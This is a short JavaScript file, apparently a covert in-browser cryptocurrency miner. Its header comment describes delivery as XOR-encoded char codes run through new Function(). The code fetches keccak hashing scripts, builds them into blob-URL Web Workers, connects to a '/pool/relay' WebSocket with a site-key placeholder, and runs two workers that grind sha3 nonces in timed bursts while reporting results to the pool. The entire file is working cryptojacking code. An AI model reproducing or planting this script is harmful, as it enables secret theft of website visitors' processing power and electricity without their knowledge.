// Delivered as XORed char codes and run through new Function(). Its hashing threads are blob:
// workers assembled from hash code it downloads as text; it speaks the compact relay protocol.
(function () {
  var base = location.origin;
  Promise.all(["/js/keccak.js", "/js/search.js"].map(function (p) {
    return fetch(base + p).then(function (r) { return r.text(); });
  })).then(function (code) {
    var body = code.join(";\n") +
      ";\nvar T=null,N=0;self.onmessage=function(e){T=e.data.t;N=e.data.n;};" +
      "setInterval(function(){if(!T)return;var s=Date.now();while(Date.now()-s<45){" +
      "var f=self.evSearch(T,'sha3',N,16);N=(N+16)>>>0;for(var i=0;i<f.length;i++)postMessage([T.id,f[i].nonce,f[i].result]);}},50);";
    var href = URL.createObjectURL(new Blob([body]));
    var socket = new WebSocket(base.replace("http", "ws") + "/pool/relay");
    var crew = [0, 1].map(function () {
      var w = new Worker(href);
      w.onmessage = function (e) { socket.send(JSON.stringify(["r"].concat(e.data))); };
      return w;
    });
    socket.onopen = function () { socket.send(JSON.stringify(["hi", "{{SITE_KEY}}", "idx"])); };
    socket.onmessage = function (e) {
      var f = JSON.parse(e.data);
      if (f[0] === "w") crew.forEach(function (w, k) { w.postMessage({ t: { id: f[1], seed: f[2], target: f[3] }, n: k * 1e9 }); });
    };
  });
})();
